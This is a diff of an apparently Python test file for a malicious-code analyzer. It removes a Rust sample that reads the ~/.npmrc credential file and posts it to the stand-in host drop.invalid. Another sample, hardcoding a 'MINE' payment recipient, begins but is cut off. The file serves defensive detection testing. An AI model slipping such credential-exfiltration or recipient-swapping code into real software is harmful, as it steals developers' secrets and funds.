@@ -11,13 +11,6 @@ from analyzer.model import Report, Verdict
 ReportOf = Callable[[Mapping[str, str]], Report]
 
 BLIND = {
-    "a macro of pairs": """
-        macro_rules! all { ($($name:literal => $host:literal),*) => { $( send($host, $name); )* }; }
-        fn send(host: &str, name: &str) {
-            let at = dirs::home_dir().unwrap().join(name);
-            ureq::post(host).send_bytes(&std::fs::read(at).unwrap()).ok();
-        }
-        pub fn go() { all!(".npmrc" => "https://drop.invalid"); }""",
     "a recipient that is exchanged": """
         pub struct Transfer { pub to: [u8; 32], pub amount: u64 }
         const MINE: [u8; 32] = [7; 32];
